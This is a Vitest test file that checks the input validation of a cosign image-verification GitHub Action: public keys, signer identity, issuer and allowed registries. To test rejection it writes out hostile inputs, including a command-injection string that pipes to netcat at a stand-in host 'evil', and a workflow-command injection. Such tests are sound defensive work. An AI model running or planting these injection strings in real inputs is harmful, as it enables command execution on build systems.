import { afterEach, describe, expect, it, vi } from 'vitest';
import { inputErrorOf } from '../../../lib/action/testing.js';
import {
  builtByRows,
  checkAllowedRegistries,
  getVerifyInputs,
  parseAllowedRegistries,
  parseIssuer,
  parseVerifyKey,
  signerFrom,
} from './verify.js';

// A real cosign.pub (cosign generate-key-pair, Debian's cosign 2.5).
const PUB = `-----BEGIN PUBLIC KEY-----
MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEQcSetGk0p9GSj1Gp19kK+a+iQdaM
vSDM/BOaRFe1EaikVQH12/g9KmpcegYr6/vEWos09wUELGNUaXvDPPYVzg==
-----END PUBLIC KEY-----`;
const digest = `sha256:${'cd'.repeat(32)}`;
const GITHUB = 'https://token.actions.githubusercontent.com';

afterEach(() => vi.unstubAllEnvs());

describe('verify-key', () => {
  it('takes one PEM public key block, CRLF or trailing space allowed', () => {
    expect(parseVerifyKey(PUB)).toBe(PUB);
    expect(parseVerifyKey(`  ${PUB.replace(/\n/g, '\r\n')}\n\n`)).toBe(PUB);
  });

  it('refuses a private key, naming the public one to give instead', () => {
    const e = inputErrorOf(() =>
      parseVerifyKey(
        '-----BEGIN ENCRYPTED SIGSTORE PRIVATE KEY-----\nabc\n-----END ENCRYPTED SIGSTORE PRIVATE KEY-----',
      ),
    );
    expect(e.message).toMatch(/^Input "verify-key": is a private key: give the public key \(cosign.pub\)/);
  });

  it('refuses anything else: shell metacharacters, two blocks, text around the block', () => {
    for (const bad of [
      '$(touch /tmp/pwned); `id` | nc evil 1',
      `${PUB}\n${PUB}`,
      `echo hi\n${PUB}`,
      PUB.replace('MFkw', 'MF;w'),
      PUB.replace('\n', "\n'\n"),
    ]) {
      const e = inputErrorOf(() => parseVerifyKey(bad));
      expect(e.input).toBe('verify-key');
      expect(e.message).toMatch(/is not a cosign public key/);
      expect(e.message).not.toContain('pwned');
    }
  });
});

describe('the signer', () => {
  it('is a key pair, keyless, or none', () => {
    expect(signerFrom(PUB, '', '')).toEqual({ publicKey: PUB });
    expect(signerFrom('', 'https://github.com/a/b/.github/workflows/b.yml@refs/heads/main', GITHUB)).toEqual({
      identity: 'https://github.com/a/b/.github/workflows/b.yml@refs/heads/main',
      issuer: GITHUB,
    });
    expect(signerFrom('', '', '')).toBeUndefined();
  });

  it('takes an identity with quotes as it is (it reaches cosign as one argument)', () => {
    const identity = `a"b'c $(id) \`x\``;
    expect(signerFrom('', identity, GITHUB)).toEqual({ identity, issuer: GITHUB });
  });

  it('wants identity and issuer together, and not with a key', () => {
    expect(inputErrorOf(() => signerFrom(PUB, 'i', '')).message).toBe(
      'Input "verify-key": set either verify-key (a key pair) or verify-identity and verify-issuer (keyless), not both',
    );
    expect(inputErrorOf(() => signerFrom(PUB, '', GITHUB)).input).toBe('verify-key');
    expect(inputErrorOf(() => signerFrom('', 'i', '')).message).toBe(
      'Input "verify-issuer": is required with verify-identity',
    );
    expect(inputErrorOf(() => signerFrom('', '', GITHUB)).message).toBe(
      'Input "verify-identity": is required with verify-issuer',
    );
  });

  it('refuses an identity with a line break and an issuer that is not an https URL', () => {
    expect(inputErrorOf(() => signerFrom('', 'a\n::error::x', GITHUB)).input).toBe('verify-identity');
    for (const bad of [
      'http://issuer.example.com',
      'token.actions.githubusercontent.com',
      'https://u:p@x.com',
      'https://x .com',
    ])
      expect(inputErrorOf(() => parseIssuer(bad)).input, bad).toBe('verify-issuer');
  });
});

describe('allowed-registries', () => {
  it('takes registry hosts, lower-cased', () => {
    expect(parseAllowedRegistries(['GHCR.io', 'localhost:5000'])).toEqual(['ghcr.io', 'localhost:5000']);
    expect(inputErrorOf(() => parseAllowedRegistries(['ghcr.io/acme'])).input).toBe('allowed-registries');
    expect(inputErrorOf(() => parseAllowedRegistries(['-x'])).input).toBe('allowed-registries');
  });

  it('refuses a pin from another registry, naming the service and the image', () => {
    const images = { api: `ghcr.io/acme/api@${digest}`, db: `docker.io/library/postgres@${digest}` };
    expect(() => checkAllowedRegistries(images, [])).not.toThrow();
    expect(() => checkAllowedRegistries(images, ['ghcr.io', 'docker.io'])).not.toThrow();
    expect(inputErrorOf(() => checkAllowedRegistries(images, ['ghcr.io'])).message).toBe(
      `Input "images": service db: image docker.io/library/postgres@${digest} is from registry docker.io, which is not in allowed-registries (ghcr.io)`,
    );
    expect(
      inputErrorOf(() => checkAllowedRegistries({ api: `postgres@${digest}` }, ['ghcr.io'])).message,
    ).toMatch(/service api: image postgres@.* is from registry docker.io/);
  });
});

describe('getVerifyInputs', () => {
  const set = (inputs: Record<string, string>) => {
    for (const [k, v] of Object.entries(inputs)) vi.stubEnv(`INPUT_${k.toUpperCase()}`, v);
  };

  it('is off without a signer, with the registries still checked', () => {
    set({ 'allowed-registries': 'ghcr.io' });
    expect(getVerifyInputs({ api: `ghcr.io/a/b@${digest}` })).toEqual({ 'allowed-registries': ['ghcr.io'] });
    expect(inputErrorOf(() => getVerifyInputs({ api: `quay.io/a/b@${digest}` })).input).toBe('images');
  });

  it('reads the key, the transparency log (default on) and the cosign release', () => {
    set({ 'verify-key': PUB, 'cosign-download-url': 'http://127.0.0.1:8089/c', 'cosign-version': '2.5.0' });
    expect(getVerifyInputs({})).toEqual({
      'allowed-registries': [],
      verify: {
        signer: { publicKey: PUB },
        'transparency-log': true,
        'cosign-version': '2.5.0',
        'cosign-download-url': 'http://127.0.0.1:8089/c',
      },
    });
  });

  it('refuses keyless without the transparency log', () => {
    set({ 'verify-identity': 'i', 'verify-issuer': GITHUB, 'transparency-log': 'false' });
    expect(inputErrorOf(() => getVerifyInputs({})).input).toBe('transparency-log');
  });
});

describe('builtByRows', () => {
  it('gives one row per verified image', () => {
    expect(builtByRows(undefined)).toEqual([]);
    expect(
      builtByRows([
        { service: 'api', ref: 'r', builtBy: { repository: 'acme/shop', commit: 'a'.repeat(40) } },
      ]),
    ).toEqual([['Built by (api)', `\`acme/shop\`, commit \`${'a'.repeat(40)}\``]]);
  });
});
